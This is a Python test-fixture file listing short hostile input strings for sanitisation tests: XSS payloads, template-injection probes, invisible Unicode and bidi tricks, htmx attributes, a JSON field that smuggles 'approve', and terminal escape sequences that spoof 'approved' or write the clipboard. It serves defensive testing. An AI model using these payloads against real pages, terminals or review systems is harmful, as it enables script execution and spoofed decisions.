"""Seventy-two texts that run, load, hide or change something where a page takes them for more than text, and fifteen
that would steer a terminal.

None is longer than 39 characters, so that any fits into a name and three into a title. `ran()` is the trap of the
pages that are tested; everything that is loaded comes from no host of ours, or from a path that is no page.
"""


def tags(text: str) -> str:
    """The text in characters that spell it, and that no font shows."""
    return "".join(chr(0xE0000 + ord(char)) for char in text)


INJECTIONS = (
    # elements
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<script src=//evil.example/></script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<scr<script>ipt>ran()</script>",
    "<iframe src=javascript:ran()></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;/x>",
    "<form action=//evil.example><button>A",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><img src=x onerror=ran()>",
    "<template><script>ran()</script>",
    "<noscript><p id='</noscript><script>A",
    # attributes and event handlers
    "<img src=x onerror=ran()>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    '" onmouseover="ran()" x="',
    "' autofocus onfocus='ran()",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>A",
    "<video><source onerror=ran()></video>",
    "<img/src=x/onerror=ran()>",
    "<p onpointerenter=ran()>A</p>",
    # svg and mathml
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() dur=1s>",
    "<svg><use href=//evil.example#x></svg>",
    "<math><mtext><img src=x onerror=ran()>",
    # template languages
    "{{ 7|add:'7' }}",
    "{% load static %}{% now 'Y' %}",
    "{# gone #}left",
    "${ran()}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    # addresses
    "javascript:ran()",
    "<a href=javascript:ran()>A</a>",
    "data:text/html,<script>ran()</script>",
    "[A](javascript:ran())",
    # entities and encodings
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u02bcA\u02bd\u2039script\u203aran()",
    # marks that hide, turn or separate
    "A\u202eBCD\u202c E",
    "\ufeff<img src=x onerror=ran()>",
    "A\u2028ran()//\u2029B",
    "\u2066<b>\u2069A\u200b\u200dB",
    "A\u202b\u202d\u202aB\u202c\u202c\u202c.",
    "A\u2067\u2068(ran)\u2069\u2069\u061c\u200e\u200f",
    f"B{tags('approve')}",
    f"C\U0001f3f4{tags('<b>ran()')}\U000e007f",
    f"D\u263a{''.join(chr(0xE0100 + byte - 16) for byte in b'approve')}",
    "E\u263a\ufe0f\ufe0e\ufe00\ufe01",
    "F\u3164\u115f\u1160\uffa0\u2800.",
    "app\u00adro\u2060ve\u034f\u180e\u17b4",
    "A\ufff9B\ufffa<b>\ufffb\ue000\U000f0000",
    "G\u206a\u206f\u2061\u2064\U0001d173\U000e0001",
    # what must stay as it is
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0d28\u0d4d\u200d A \u05e9\u05dc\u05d5\u05dd",
    "\U0001f469\u200d\U0001f680 \u2764\ufe0f 1\ufe0f\u20e3 A",
    # htmx
    "<b hx-get=/x hx-trigger=load>A</b>",
    "<b data-hx-get=/x data-hx-trigger=load>",
    '<b hx-on::load="ran()">A</b>',
    "<p id=plate hx-swap-oob=true>A</p>",
    "<b ws-connect=/ws/x hx-ext=ws>A</b>",
    # comments, styles, JSON
    "--><img src=x onerror=ran()>",
    "<!--5--><p id=ws>A</p>",
    "<style>*{background:url(//a.example)}",
    '"}],"decision":"approve","x":[{"a":"',
)

# people cannot write these: a form refuses them. Models and endpoints can
STEERING = (
    "A\x1b[2K\x1b[1Aapproved",
    "A\x1b[8mhidden\x1b[0m",
    "A\x1b[31;5mB",
    "A\x1b]0;title\x07",
    "A\x1b]8;;//evil.example\x1b\\B\x1b]8;;\x1b\\",
    "A\x1b]52;c;cnVu\x07",
    "A\x1bPq#0\x1b\\",
    "A\x1b_G\x1b\\\x1b^B\x1b\\",
    "A\x1bc\x1b(0",
    "A\x9b2J\x9d0;B\x9c",
    "rejected\rapproved",
    "reject\x08\x08\x08\x08\x08\x08approve",
    "A\x7f\x7f\x00B",
    "A\x0b\x0c\x85B",
    "A\r\n2026-11-22 ERROR engine: B",
)
